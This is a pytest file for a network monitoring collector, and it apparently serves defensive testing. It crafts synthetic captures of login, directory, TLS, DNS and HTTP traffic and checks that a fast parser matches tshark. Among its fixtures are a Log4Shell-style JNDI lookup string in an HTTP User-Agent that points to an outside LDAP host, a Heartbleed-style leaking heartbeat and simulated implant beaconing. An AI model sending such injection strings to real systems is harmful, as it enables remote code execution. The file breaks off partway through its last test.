"""The fast engine against the tshark engine (Wireshark's dissectors) on the same
crafted captures: flows, byte counts and DNS/HTTP/TLS fields must agree."""

from __future__ import annotations

import json

import pytest
from packet_craft import HTTP_REQ, Traffic, client_hello, server_hello, standard_mix
from scapy.all import DNSRR

from collectors.packet import read_pcaps
from soc_core.ecs import get_field


def _both(path):
    out = {}
    for engine in ("fast", "tshark"):
        events, stats = read_pcaps([path], engine=engine)
        out[engine] = (list(events), stats)
    return out


def flows(events):
    return sorted(
        (get_field(e, "source.ip"), get_field(e, "source.port"),
         get_field(e, "destination.ip"), get_field(e, "destination.port"),
         e["network"]["transport"], e["source"]["packets"], e["source"]["bytes"],
         e["destination"]["packets"], e["destination"]["bytes"],
         e["zeek"]["connection"]["state"], e["zeek"]["connection"]["history"],
         e["network"].get("protocol"), e["event"]["id"],
         str({k: v for k, v in e["govsoc"]["flow"].items() if k.startswith("burst")}))
        for e in events if e["event"]["dataset"] == "network.flow")


def dns(events):
    return sorted(
        (e["dns"]["id"], e["dns"].get("question", {}).get("name"),
         e["dns"].get("question", {}).get("type"), e["dns"].get("response_code"),
         str(e["dns"].get("answers")), str(e["dns"].get("resolved_ip")),
         str(e["dns"].get("header_flags")))
        for e in events if e["event"]["dataset"] == "network.dns")


def http(events):
    return sorted(
        (get_field(e, "http.request.method"), get_field(e, "url.original"),
         get_field(e, "url.domain"), get_field(e, "user_agent.original"),
         get_field(e, "http.response.status_code"), get_field(e, "http.version"),
         str(get_field(e, "http.response.body.bytes")), e["event"]["id"])
        for e in events if e["event"]["dataset"] == "network.http")


def tls(events):
    return sorted(
        (str(get_field(e, "tls.client.server_name")), get_field(e, "tls.client.ja3"),
         get_field(e, "govsoc.tls.ja3_full"), get_field(e, "tls.version"),
         get_field(e, "tls.cipher"), str(get_field(e, "tls.client.supported_ciphers")),
         str(get_field(e, "govsoc.tls.sm_ciphers")),
         json.dumps(get_field(e, "tls.server"), sort_keys=True),
         str(get_field(e, "govsoc.tls.server")), str(get_field(e, "zeek.ssl")),
         e["event"]["id"])
        for e in events if e["event"]["action"] == "tls_client_hello")


def _extra() -> Traffic:
    t = Traffic()
    # keep-alive: two requests, two responses on one connection
    t.tcp_session("10.0.2.1", 45000, "10.0.2.80", 80,
                  [HTTP_REQ, b"GET /second HTTP/1.1\r\nHost: www.example.gov.cn\r\n"
                             b"User-Agent: curl/8.5\r\n\r\n"],
                  [b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
                   b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"])
    t.dns("10.0.2.1", 5400, "10.0.2.53", "v6.example.gov.cn", 0x3333,
          [DNSRR(rrname="v6.example.gov.cn", type="AAAA", rdata="2001:db8::80", ttl=30)],
          qtype="AAAA")
    t.dns("10.0.2.1", 5401, "10.0.2.53", "lost.example.gov.cn", 0x4444, answered=False)
    t.tcp_session("10.0.2.1", 45001, "10.0.2.43", 443,
                  [client_hello("sm.example.gov.cn", ciphers=(0x00C6, 0xE053, 0x1301))],
                  [server_hello(0x1301)])
    return t


def logins(events):
    """FTP, RDP and TLS heartbeat events, whole (ids included)."""
    return sorted(json.dumps(e, sort_keys=True) for e in events
                   if e["event"]["dataset"] in ("network.ftp", "network.rdp", "network.smtp",
                                                "network.pop3", "network.imap",
                                                "network.smb")
                   or e["event"]["action"] == "tls_heartbeat")


def _dialogue(t: Traffic, c, cp, s, sp, turns, gap: float = 0.001) -> None:
    """A TCP connection whose payloads alternate as given: (from_client, bytes) turns,
    each acknowledged, then both sides close."""
    from packet_craft import ETH
    from scapy.all import IP, TCP, Raw

    key = (c, cp, s, sp)
    seq = {True: 1000, False: 9000}

    def seg(from_client, flags, data=b""):
        a, b = (c, s) if from_client else (s, c)
        pa, pb = (cp, sp) if from_client else (sp, cp)
        pkt = ETH / IP(src=a, dst=b) / TCP(sport=pa, dport=pb, flags=flags,
                                          seq=seq[from_client], ack=seq[not from_client])
        t.send(pkt / Raw(data) if data else pkt, from_client, key, gap)
        seq[from_client] += len(data) or (1 if "S" in flags or "F" in flags else 0)

    seg(True, "S")
    seg(False, "SA")
    seg(True, "A")
    for from_client, data in turns:
        seg(from_client, "PA", data)
        seg(not from_client, "A")
    seg(True, "FA")
    seg(False, "FA")
    seg(True, "A")


def _x224(kind: int, body: bytes) -> bytes:
    x224 = bytes([6 + len(body), kind, 0, 0, 0x12, 0x34, 0]) + body
    return b"\x03\x00" + (4 + len(x224)).to_bytes(2, "big") + x224


def _neg(kind: int, value: int) -> bytes:
    return bytes([kind, 0, 8, 0]) + value.to_bytes(4, "little")


def _smb2(command: int, body: bytes, status: int = 0, response: bool = False,
          mid: int = 0) -> bytes:
    import struct

    head = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16s", 64, 0, status, command, 1,
                                     1 if response else 0, 0, mid, 0, 0, 0x77, b"")
    msg = head + body
    return b"\x00" + len(msg).to_bytes(3, "big") + msg


def _ntlm_auth(user: str, domain: str) -> bytes:
    import struct

    d, u, w = domain.encode("utf-16-le"), user.encode("utf-16-le"), "PC1".encode("utf-16-le")
    off = 64
    fields = b""
    for blob, at in ((b"", off), (b"", off), (d, off), (u, off + len(d)),
                     (w, off + len(d) + len(u)), (b"", off + len(d) + len(u) + len(w))):
        fields += struct.pack("<HHI", len(blob), len(blob), at)
    return b"NTLMSSP\x00" + struct.pack("<I", 3) + fields + struct.pack("<I", 0x201) + d + u + w


def _smb_session(t: Traffic, cport: int, user: str, status: int) -> None:
    import struct

    neg_req = struct.pack("<HHHHI16sQ", 36, 2, 1, 0, 0, b"g" * 16, 0) + \
        struct.pack("<HH", 0x0210, 0x0302)
    neg_rsp = struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x0302, 0, b"s" * 16, 0, 65536,
                          65536, 65536, 0, 0, 128, 0, 0)
    auth = _ntlm_auth(user, "GOV")
    setup = struct.pack("<HBBIIHHQ", 25, 0, 1, 0, 0, 64 + 24, len(auth), 0) + auth
    _dialogue(t, "10.0.3.1", cport, "10.0.3.45", 445, [
        (True, _smb2(0, neg_req)), (False, _smb2(0, neg_rsp, response=True)),
        (True, _smb2(1, setup, mid=1)),
        (False, _smb2(1, struct.pack("<HHHH", 9, 0, 72, 0), status=status, response=True,
                      mid=1))])


def _protocols() -> Traffic:
    """FTP logins (refused, anonymous, commands after), RDP set-ups (confirmed, refused,
    unanswered), TLS heartbeats (normal, Heartbleed with a leaking answer), DNS record
    types by IANA name, and check-ins in one UDP and one TCP flow."""
    from packet_craft import ETH
    from scapy.all import IP, UDP, Raw

    t = Traffic()
    _dialogue(t, "10.0.3.1", 46000, "10.0.3.21", 21, [
        (False, b"220 FTP server ready\r\n"), (True, b"USER admin\r\n"),
        (False, b"331 Password required for admin\r\n"), (True, b"PASS Secret-1\r\n"),
        (False, b"530 Login incorrect.\r\n"), (True, b"USER anonymous\r\n"),
        (False, b"331 Guest login ok\r\n"), (True, b"PASS guest@example.gov.cn\r\n"),
        (False, b"230-Welcome\r\n230 Guest login ok, access restrictions apply.\r\n"),
        (True, b"PASV\r\n"), (False, b"227 Entering Passive Mode (10,0,3,21,200,10)\r\n"),
        (True, b"RETR notice.txt\r\n"), (False, b"150 Opening BINARY mode data connection\r\n"),
        (False, b"226 Transfer complete.\r\n"), (True, b"QUIT\r\n"), (False, b"221 Bye\r\n")])
    _dialogue(t, "10.0.3.1", 46010, "10.0.3.25", 25, [
        (False, b"220 mail.example.gov.cn ESMTP\r\n"), (True, b"EHLO pc\r\n"),
        (False, b"250-mail.example.gov.cn\r\n250 AUTH PLAIN LOGIN\r\n"),
        (True, b"AUTH PLAIN AGFsaWNlAFNlY3JldC0y\r\n"),
        (False, b"535 5.7.8 Authentication credentials invalid\r\n"),
        (True, b"AUTH LOGIN\r\n"), (False, b"334 VXNlcm5hbWU6\r\n"), (True, b"YWxpY2U=\r\n"),
        (False, b"334 UGFzc3dvcmQ6\r\n"), (True, b"U2VjcmV0LTM=\r\n"),
        (False, b"235 2.7.0 Authentication successful\r\n"), (True, b"QUIT\r\n"),
        (False, b"221 Bye\r\n")])
    _dialogue(t, "10.0.3.1", 46011, "10.0.3.110", 110, [
        (False, b"+OK POP3 ready\r\n"), (True, b"USER alice\r\n"), (False, b"+OK\r\n"),
        (True, b"PASS Secret-4\r\n"), (False, b"-ERR [AUTH] Authentication failed.\r\n"),
        (True, b"USER bob\r\n"), (False, b"-ERR no such user\r\n"),
        (True, b"USER carol\r\n"), (False, b"+OK\r\n"), (True, b"PASS Secret-5\r\n"),
        (False, b"+OK Logged in.\r\n"), (True, b"QUIT\r\n"), (False, b"+OK Bye\r\n")])
    _dialogue(t, "10.0.3.1", 46012, "10.0.3.143", 143, [
        (False, b"* OK IMAP4rev1 ready\r\n"), (True, b"a1 LOGIN alice Secret-6\r\n"),
        (False, b"a1 NO [AUTHENTICATIONFAILED] Authentication failed.\r\n"),
        (True, b'a2 LOGIN "dave" "Secret-7"\r\n'),
        (False, b"* CAPABILITY IMAP4rev1\r\na2 OK Logged in\r\n"),
        (True, b"a3 LOGOUT\r\n"), (False, b"* BYE\r\na3 OK Logout completed.\r\n")])
    _smb_session(t, 46020, "alice", 0xC000006D)
    _smb_session(t, 46021, "bob", 0)
    cookie = b"Cookie: mstshash=alice\r\n"
    _dialogue(t, "10.0.3.1", 46001, "10.0.3.33", 3389, [
        (True, _x224(0xE0, cookie + _neg(1, 3))), (False, _x224(0xD0, _neg(2, 2)))])
    _dialogue(t, "10.0.3.1", 46002, "10.0.3.34", 3389, [
        (True, _x224(0xE0, b"Cookie: mstshash=bob\r\n" + _neg(1, 0))),
        (False, _x224(0xD0, _neg(3, 5)))])
    _dialogue(t, "10.0.3.2", 46003, "10.0.3.35", 3389, [
        (True, _x224(0xE0, b"Cookie: mstshash=carol\r\n" + _neg(1, 1)))])
    hello, server = client_hello("hb.example.gov.cn"), server_hello(0xC02F)
    _dialogue(t, "10.0.3.1", 46004, "10.0.3.43", 443, [
        (True, hello), (False, server),
        (True, b"\x18\x03\x03\x00\x23\x01\x00\x10" + b"p" * 16 + b"\x00" * 16),
        (False, b"\x18\x03\x03\x00\x23\x02\x00\x10" + b"p" * 16 + b"\x00" * 16)])
    _dialogue(t, "10.0.3.6", 46005, "10.0.3.44", 443, [
        (True, hello), (False, server), (True, b"\x18\x03\x03\x00\x03\x01\x40\x00"),
        (False, b"\x18\x03\x03\x01\x13\x02\x01\x00" + b"m" * 256 + b"\x00" * 16)])
    for qtype in (10, 44, 252, 251, 52, 99):  # NULL, SSHFP, AXFR, IXFR, TLSA, SPF
        t.dns("10.0.3.1", 5500 + qtype, "10.0.3.53", f"q{qtype}.example.gov.cn", qtype,
              answered=False, qtype=qtype)
    for i in range(10):  # an implant's check-ins, 15 s apart, on one UDP (QUIC) flow
        key = ("10.0.3.7", 47000, "198.51.100.9", 443)
        t.send(ETH / IP(src=key[0], dst=key[2]) / UDP(sport=47000, dport=443)
               / Raw(b"q" * (60 + i)), True, key, 15.0 + 0.2 * (i % 3))
        t.send(ETH / IP(src=key[2], dst=key[0]) / UDP(sport=443, dport=47000)
               / Raw(b"r" * 40), False, key, 0.05)
    _dialogue(t, "10.0.3.8", 46006, "10.0.3.80", 8888,
              [(i % 2 == 0, b"POST /beacon HTTP/1.1\r\nHost: 10.0.3.80:8888\r\n"
                            b"User-Agent: Go-http-client/1.1\r\nContent-Length: 0\r\n\r\n"
                if i % 2 == 0 else b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
               for i in range(16)], gap=7.0)
    _wire_variants(t)
    return t


def _wire_variants(t: Traffic) -> None:
    """Framings and requests the fast path once skipped: PPPoE, SCTP, a request in a TCP
    Fast Open SYN, HTTP heads split across segments, an IPv6 literal Host with a port."""
    from packet_craft import ETH
    from scapy.all import IP, PPP, TCP, PPPoE, Raw
    from scapy.layers.sctp import SCTP, SCTPChunkData

    pppoe = ETH / PPPoE(sessionid=7) / PPP(proto=0x0021)
    key = ("10.0.4.1", 40100, "10.0.4.80", 80)
    t.send(pppoe / IP(src=key[0], dst=key[2]) / TCP(sport=40100, dport=80, flags="S"), True,
           key)
    t.send(pppoe / IP(src=key[2], dst=key[0]) / TCP(sport=80, dport=40100, flags="SA"), False,
           key)
    key = ("10.0.4.1", 3868, "10.0.4.90", 3868)  # Diameter over SCTP
    for from_client in (True, False):
        a, b = (key[0], key[2]) if from_client else (key[2], key[0])
        t.send(ETH / IP(src=a, dst=b) / SCTP(sport=3868, dport=3868)
               / SCTPChunkData(data=b"diameter-cer"), from_client, key)
    key = ("10.0.4.2", 40101, "10.0.4.81", 80)
    get = (b"GET /tfo HTTP/1.1\r\nHost: tfo.example.gov.cn\r\nUser-Agent: curl/8.5\r\n\r\n")
    t.send(ETH / IP(src=key[0], dst=key[2]) / TCP(sport=40101, dport=80, flags="S", seq=5,
                                                  options=[("TFO", b"abcdefgh")]) / Raw(get),
           True, key)
    t.send(ETH / IP(src=key[2], dst=key[0]) / TCP(sport=80, dport=40101, flags="SA", seq=90,
                                                  ack=6 + len(get)), False, key)
    _dialogue(t, "10.0.4.4", 40103, "10.0.4.83", 80, [  # heads cut into pieces
        (True, b"GE"), (True, b"T /split HTTP/1.1\r\nHost: split.example.gov.cn\r\n"),
        (True, b"User-Agent: ${jndi:ldap://203.0.113.5/a}\r\n\r\n"),
        (False, b"HTTP/1.1 404 Not Found\r\nContent-"), (False, b"Length: 0\r\n\r\n")])
    t.tcp_session("10.0.4.3", 40102, "10.0.4.82", 8080,
                  [b"GET /v6 HTTP/1.1\r\nHost: [2001:db8::82]:8080\r\n\r\n"],
                  [b"HTTP/1.1 204 No Content\r\n\r\n"])


def _sslv2_hello() -> bytes:
    specs = bytes.fromhex("01008003008007008006004004008002008000003900002f")
    body = b"\x01\x03\x01" + len(specs).to_bytes(2, "big") + b"\x00\x00\x00\x10" + specs \
        + b"c" * 16
    return bytes([0x80 | (len(body) >> 8), len(body) & 0xFF]) + body


def _tls_and_http() -> Traffic:
    """Server certificates (self-signed in a flight cut into three segments, expired with
    its CA, none under TLS 1.3, none on a resumed session), an SSLv2-format ClientHello,
    TLS inside a CONNECT tunnel, an HTTP/0.9 request, and a FIN retransmitted 20 s after
    its connection closed."""
    from packet_craft import ETH, _record, make_cert, raw_server_hello, server_flight
    from scapy.all import IP, TCP

    t = Traffic()
    self_signed = make_cert("portal.example.gov.cn")
    ca = make_cert("Example Gov CA", days=(-800, 3000))
    old = make_cert("old.example.gov.cn", issuer=ca, days=(-400, -10))
    flight = server_flight([self_signed[0]])
    _dialogue(t, "10.0.5.1", 47000, "10.0.5.43", 443, [
        (True, client_hello("portal.example.gov.cn")), (False, flight[:60]),
        (False, flight[60:300]), (False, flight[300:])])
    _dialogue(t, "10.0.5.1", 47001, "10.0.5.44", 443, [
        (True, client_hello("old.example.gov.cn")), (False, server_flight([old[0], ca[0]]))])
    _dialogue(t, "10.0.5.1", 47002, "10.0.5.45", 443, [
        (True, client_hello("new.example.gov.cn")),
        (False, _record(raw_server_hello(0x1301, version13=True)) + _record(b"x" * 40, 23))])
    _dialogue(t, "10.0.5.1", 47003, "10.0.5.46", 443, [  # resumed: no certificate
        (True, client_hello("again.example.gov.cn")),
        (False, _record(raw_server_hello()) + _record(b"\x01", 20) + _record(b"f" * 40))])
    _dialogue(t, "10.0.5.1", 47004, "10.0.5.47", 443, [
        (True, _sslv2_hello()), (False, server_hello())])
    _dialogue(t, "10.0.5.1", 47005, "10.0.5.8", 3128, [
        (True, b"CONNECT secure.example.gov.cn:443 HTTP/1.1\r\n"
               b"Host: secure.example.gov.cn:443\r\n\r\n"),
        (False, b"HTTP/1.1 200 Connection established\r\n\r\n"),
        (True, client_hello("secure.example.gov.cn")), (False, server_hello())])
    _dialogue(t, "10.0.5.1", 47006, "10.0.5.80", 80, [
        (True, b"GET /old/index.html\r\n"), (False, b"<html>HTTP/0.9 answer</html>")])
    _dialogue(t, "10.0.5.1", 47008, "10.0.5.82", 80, [  # a body delimited by the close
        (True, b"GET /report.csv HTTP/1.0\r\nHost: data.example.gov.cn\r\n\r\n"),
        (False, b"HTTP/1.0 200 OK\r\nContent-Type: text/csv\r\nServer: old\r\n\r\n"
                + b"a" * 100), (False, b"HTTP/1.1 200 OK\r\n" + b"b" * 230),
        (False, b"c" * 1000)])
    key = ("10.0.5.2", 47007, "10.0.5.81", 80)
    t.tcp_session(*key, [HTTP_REQ], [b"HTTP/1.1 204 No Content\r\n\r\n"])
    t.send(ETH / IP(src=key[2], dst=key[0]) / TCP(sport=80, dport=47007, flags="FA", seq=9031,
                                                  ack=1000 + len(HTTP_REQ) + 1),
           False, key, 20.0)
    t.dns("10.0.5.1", 5600, "10.0.5.53", "portal.example.gov.cn", 0x5555,
          [DNSRR(rrname="portal.example.gov.cn", type="A", rdata="10.0.5.43", ttl=60)])
    return t


def _directory() -> Traffic:
    """Kerberos over UDP and TCP (pre-authentication required then refused, a ticket
    granted, an unknown principal, a service ticket) and LDAP binds (simple refused and
    accepted with a password in clear, anonymous, SASL in progress)."""
    from packet_craft import (
        ETH,
        krb_error,
        krb_reply,
        krb_request,
        ldap_bind,
        ldap_bind_response,
    )
    from scapy.all import IP, UDP, Raw

    t = Traffic()
    realm, tgs = "EXAMPLE.GOV.CN", ("krbtgt", "EXAMPLE.GOV.CN")
    exchanges = [("alice", krb_error(25, "alice", realm, tgs)),
                 ("alice", krb_error(24, "alice", realm, tgs)),
                 ("bob", krb_reply(11, "bob", realm)),
                 ("carol", krb_error(6, "carol", realm, tgs))]
    for i, (user, answer) in enumerate(exchanges):
        key = ("10.0.7.1", 49000 + i, "10.0.7.88", 88)
        t.send(ETH / IP(src=key[0], dst=key[2]) / UDP(sport=key[1], dport=88)
               / Raw(krb_request(10, user, realm, tgs)), True, key)
        t.send(ETH / IP(src=key[2], dst=key[0]) / UDP(sport=88, dport=key[1]) / Raw(answer),
               False, key)

    def framed(m: bytes) -> bytes:
        return len(m).to_bytes(4, "big") + m

    _dialogue(t, "10.0.7.1", 49010, "10.0.7.88", 88, [
        (True, framed(krb_request(12, "bob", realm, ("cifs", "fs1.example.gov.cn")))),
        (False, framed(krb_reply(13, "bob", realm)))])
    _dialogue(t, "10.0.7.2", 49011, "10.0.7.89", 389, [
        (True, ldap_bind(1, "cn=admin,dc=example,dc=gov,dc=cn", "Secret-8")),
        (False, ldap_bind_response(1, 49)),
        (True, ldap_bind(2, "cn=reader,dc=example,dc=gov,dc=cn", "Secret-9")),
        (False, ldap_bind_response(2, 0))])
    _dialogue(t, "10.0.7.2", 49012, "10.0.7.89", 389, [
        (True, ldap_bind(1, "", "")), (False, ldap_bind_response(1, 0))])
    _dialogue(t, "10.0.7.2", 49013, "10.0.7.89", 389, [
        (True, ldap_bind(1, "", mechanism="GSSAPI")), (False, ldap_bind_response(1, 14))])
    t.dns("10.0.7.1", 5700, "10.0.7.53", "_ldap._tcp.example.gov.cn", 0x7777,
          answered=False, qtype="SRV")
    t.tcp_session("10.0.7.1", 49020, "10.0.7.80", 80, [HTTP_REQ], [b"HTTP/1.1 204 OK\r\n\r\n"])
    t.tcp_session("10.0.7.1", 49021, "10.0.7.43", 443, [client_hello("sso.example.gov.cn")])
    return t


def directory_events(events):
    """Kerberos and LDAP events, whole (ids included)."""
    return sorted(json.dumps(e, sort_keys=True) for e in events
                  if e["event"]["dataset"] in ("network.kerberos", "network.ldap"))


@pytest.fixture(scope="module", params=["standard", "extra", "protocols", "tls_http",
                                        "directory"])
def results(request, tmp_path_factory):
    t = {"standard": standard_mix, "extra": _extra, "protocols": _protocols,
         "tls_http": _tls_and_http, "directory": _directory}[request.param]()
    path = t.write(tmp_path_factory.mktemp("diff") / f"{request.param}.pcap")
    return _both(path)


def test_flows_and_bytes_agree(results):
    fast, ref = results["fast"], results["tshark"]
    assert flows(fast[0]) == flows(ref[0])
    assert fast[1].flows == ref[1].flows > 0
    assert fast[1].packets == ref[1].packets


def test_dns_fields_agree(results):
    assert dns(results["fast"][0]) == dns(results["tshark"][0])
    assert dns(results["fast"][0])


def test_http_fields_agree(results):
    assert http(results["fast"][0]) == http(results["tshark"][0])
    assert http(results["fast"][0])


def test_tls_fields_agree(results):
    assert tls(results["fast"][0]) == tls(results["tshark"][0])
    assert tls(results["fast"][0])


def test_login_and_heartbeat_events_agree(results):
    assert logins(results["fast"][0]) == logins(results["tshark"][0])


def test_kerberos_and_ldap_events_agree(results):
    assert directory_events(results["fast"][0]) == directory_events(results["tshark"][0])


def test_protocol_events_carry_what_the_wire_shows(tmp_path):
    """What the crafted conversations must yield (on the fast path, which the tests above
    hold equal to tshark), and no password in any event."""
    events, _ = read_pcaps([_protocols().write(tmp_path / "p.pcap")])
    events = list(events)
    text = json.dumps(events)
    assert not [n for n in range(1, 8) if f"Secret-{n}" in text]
    mail = [(e["event"]["dataset"], get_field(e, "govsoc.mail.command"),
             get_field(e, "user.name"), get_field(e, "govsoc.mail.reply"), e["event"]["outcome"])
            for e in events if e["event"]["action"] in ("smtp_login", "pop3_login", "imap_login")]
    assert sorted(mail) == [
        ("network.imap", "LOGIN", "alice", "NO", "failure"),
        ("network.imap", "LOGIN", "dave", "OK", "success"),
        ("network.pop3", "PASS", "alice", "-ERR", "failure"),
        ("network.pop3", "PASS", "carol", "+OK", "success"),
        ("network.pop3", "USER", "bob", "-ERR", "failure"),
        ("network.smtp", "AUTH", None, "235", "success"),
        ("network.smtp", "AUTH", None, "535", "failure")]
    ftp = [(get_field(e, "zeek.ftp.command"), get_field(e, "user.name"),
            get_field(e, "zeek.ftp.reply.code"), e["event"].get("outcome"))
           for e in events if e["event"]["dataset"] == "network.ftp"]
    assert ftp == [("PASS", "admin", 530, "failure"), ("PASS", "anonymous", 230, "success"),
                   ("PASV", "anonymous", 227, "success"), ("RETR", "anonymous", 150, "success")]
    smb = sorted((get_field(e, "user.domain"), get_field(e, "user.name"),
                  get_field(e, "govsoc.smb.dialect"), get_field(e, "govsoc.smb.status"),
                  e["event"]["outcome"]) for e in events if e["event"]["dataset"] == "network.smb")
    assert smb == [("GOV", "alice", "3.0.2", "STATUS_LOGON_FAILURE", "failure"),
                   ("GOV", "bob", "3.0.2", "STATUS_SUCCESS", "success")]
    rdp = sorted((get_field(e, "zeek.rdp.cookie"), get_field(e, "zeek.rdp.requested_protocols"),
                  get_field(e, "zeek.rdp.security_protocol"), get_field(e, "zeek.rdp.result"))
                 for e in events if e["event"]["dataset"] == "network.rdp")
    assert rdp == [("alice", "SSL,HYBRID", "HYBRID", "confirmed"),
                   ("bob", "RDP", None, "HYBRID_REQUIRED_BY_SERVER"),
                   ("carol", "SSL", None, "no confirm")]
    beats = sorted((e["source"]["ip"], get_field(e, "govsoc.tls.heartbeat.type"),
                    get_field(e, "govsoc.tls.heartbeat.verdict"))
                   for e in events if e["event"]["action"] == "tls_heartbeat")
    assert beats == [("10.0.3.1", "request", "normal"), ("10.0.3.1", "response", "normal"),
                     ("10.0.3.6", "request", "malformed"), ("10.0.3.6", "response", "leak")]
    flows = {(get_field(e, "network.transport"), e["destination"].get("port"),
              e["destination"]["ip"]) for e in events if e["event"]["dataset"] == "network.flow"}
    assert ("tcp", 80, "10.0.4.80") in flows  # inside PPPoE
    assert ("sctp", 3868, "10.0.4.90") in flows
    urls = {get_field(e, "url.original"): get_field(e, "url.domain") for e in events
            if e["event"]["dataset"] == "network.http"}
    assert urls["/tfo"] == "tfo.example.gov.cn"  # carried by the SYN (TCP Fast Open)
    assert urls["/v6"] == "2001:db8::82"
    split = next(e for e in events if get_field(e, "url.original") == "/split")
    assert get_field(split, "url.domain") == "split.example.gov.cn"
    assert get_field(split, "user_agent.original") == "${jndi:ldap://203.0.113.5/a}"
    assert get_field(split, "http.response.status_code") == 404
    qtypes = {get_field(e, "dns.question.type") for e in events
              if e["event"]["dataset"] == "network.dns"}
    assert qtypes == {"NULL", "SSHFP", "AXFR", "IXFR", "TLSA", "SPF"}
    question = next(e["dns"]["question"] for e in events
                    if get_field(e, "dns.question.name") == "q10.example.gov.cn")
    assert (question["registered_domain"], question["subdomain"],
            question["top_level_domain"]) == ("example.gov.cn", "q10", "gov.cn")
    bursts = {e["destination"]["port"]: e["govsoc"]["flow"] for e in events
              if e["event"]["dataset"] == "network.flow" and "bursts" in e["govsoc"]["flow"]}
    assert bursts[443]["bursts"] == 10 and bursts[443]["burst_interval_s"] == 15.2
    assert bursts[443]["burst_jitter"] < 0.05
    # the connection's start and its 16 payloads, each 14 s after the one before (its
    # acknowledgement came 7 s in between: silence is measured from any packet)
    assert bursts[8888]["bursts"] == 17 and bursts[8888]["burst_interval_s"] == 14.0


def test_tshark_engine_reports_missing_tool(monkeypatch, tmp_path):
    from collectors.packet import CaptureError

    path = standard_mix().write(tmp_path / "m.pcap")
    monkeypatch.setenv("PATH", str(tmp_path))  # a PATH without tshark
    with pytest.raises(CaptureError, match="tshark is not installed"):
        read_pcaps([path], engine="tshark")


def _random_traffic(seed: int) -> Traffic:
    """Seeded random TCP/UDP/ICMP over IPv4 and IPv6 among a few hosts: odd flag
    combinations, empty and non-empty payloads, packets in both directions."""
    import random

    from packet_craft import ETH
    from scapy.all import ICMP, IP, TCP, UDP, IPv6, Raw

    rng = random.Random(seed)
    t = Traffic()
    v4 = [f"10.9.0.{i}" for i in range(1, 5)]
    v6 = [f"2001:db8:9::{i}" for i in range(1, 5)]
    flags = ["S", "SA", "A", "PA", "FA", "R", "RA", "F", "SF", "U", ""]
    for _ in range(300):
        pool = rng.choice([v4, v4, v6])
        a, b = rng.sample(pool, 2)
        ip = IP if pool is v4 else IPv6
        sport, dport = rng.choice([(20001, 20002), (20003, 20004), (20002, 20001)])
        payload = Raw(b"z" * rng.choice([0, 0, 1, 7, 100]))
        kind = rng.random()
        if kind < 0.6:
            l4 = TCP(sport=sport, dport=dport, flags=rng.choice(flags), seq=rng.randrange(2**32))
        elif kind < 0.9 or ip is IPv6:
            l4 = UDP(sport=sport, dport=dport)
        else:
            l4 = ICMP(type=rng.choice([8, 0, 3]), code=rng.choice([0, 1]))
        t.add(ETH / ip(src=a, dst=b) / l4 / payload)
    return t


def test_random_traffic_flows_agree(tmp_path):
    path = _random_traffic(20261123).write(tmp_path / "random.pcap")
    res = _both(path)
    fast, ref = flows(res["fast"][0]), flows(res["tshark"][0])
    assert len(fast) > 20
    assert fast == ref


def test_certificates_tunnels_and_old_forms_carry_what_the_wire_shows(tmp_path):
    """The tls_http capture on the fast path (held equal to tshark above): certificate
    facts and verdicts, an SSLv2 hello, the SNI inside a CONNECT tunnel, an HTTP/0.9
    request, and a FIN retransmitted after the close kept in its connection."""
    events = list(read_pcaps([_tls_and_http().write(tmp_path / "t.pcap")])[0])
    hellos = {get_field(e, "destination.ip"): e for e in events
              if e["event"]["action"] == "tls_client_hello"}
    portal = hellos["10.0.5.43"]
    assert get_field(portal, "tls.server.x509.subject.common_name") == ["portal.example.gov.cn"]
    assert get_field(portal, "tls.server.subject") == get_field(portal, "tls.server.issuer")
    assert len(get_field(portal, "tls.server.hash.sha256")) == 64
    assert get_field(portal, "zeek.ssl.validation_status") == "self signed certificate"
    assert portal["govsoc"]["tls"]["server"] == {"self_signed": True, "expired": False,
                                                 "chain_length": 1}
    old = hellos["10.0.5.44"]
    assert get_field(old, "tls.server.x509.issuer.common_name") == ["Example Gov CA"]
    assert get_field(old, "zeek.ssl.validation_status") == "certificate has expired"
    assert old["govsoc"]["tls"]["server"]["chain_length"] == 2
    assert get_field(old, "tls.server.not_after") < old["@timestamp"]
    for ip in ("10.0.5.45", "10.0.5.46"):  # TLS 1.3 (encrypted), resumed: no certificate
        assert "server" not in hellos[ip]["tls"] and hellos[ip]["tls"]["established"]
    assert hellos["10.0.5.45"]["tls"]["version"] == "1.3"
    v2 = hellos["10.0.5.47"]
    assert v2["govsoc"]["tls"]["sslv2_hello"] is True
    assert get_field(v2, "tls.client.supported_ciphers") == [
        "0x0039", "TLS_RSA_WITH_AES_128_CBC_SHA"]
    assert get_field(hellos["10.0.5.8"], "tls.client.server_name") == "secure.example.gov.cn"
    http = {get_field(e, "url.original"): e for e in events
            if e["event"]["dataset"] == "network.http"}
    assert get_field(http["/old/index.html"], "http.version") == "0.9"
    assert get_field(http["secure.example.gov.cn:443"], "http.response.status_code") == 200
    # 100 bytes with the head, then 247 and 1,000 (the second looks like a head: it is body)
    assert get_field(http["/report.csv"], "http.response.body.bytes") == 1347
    late = [e for e in events if e["event"]["dataset"] == "network.flow"
            and e["source"]["port"] == 47007]
    assert len(late) == 1 and late[0]["destination"]["packets"] == 5


def test_kerberos_and_ldap_carry_outcomes_without_passwords(tmp_path):
    events = list(read_pcaps([_directory().write(tmp_path / "d.pcap")])[0])
    assert "Secret-8" not in json.dumps(events) and "Secret-9" not in json.dumps(events)
    krb = sorted((get_field(e, "user.name"), get_field(e, "zeek.kerberos.request_type"),
                  str(get_field(e, "zeek.kerberos.error.msg")), str(e["event"].get("outcome")))
                 for e in events if e["event"]["dataset"] == "network.kerberos")
    assert krb == [("alice", "AS", "KDC_ERR_PREAUTH_FAILED", "failure"),
                   ("alice", "AS", "KDC_ERR_PREAUTH_REQUIRED", "None"),
                   ("bob", "AS", "None", "success"), ("bob", "TGS", "None", "success"),
                   ("carol", "AS", "KDC_ERR_C_PRINCIPAL_UNKNOWN", "failure")]
    tgs = next(e for e in events if get_field(e, "zeek.kerberos.request_type") == "TGS")
    assert get_field(tgs, "zeek.kerberos.service") == "cifs/fs1.example.gov.cn"
    ldap = sorted(tuple(map(str, (get_field(e, "user.name"), get_field(e, "zeek.ldap.result"),
                                  get_field(e, "zeek.ldap.argument"),
                                  e["event"].get("outcome"))))
                  for e in events if e["event"]["dataset"] == "network.ldap")
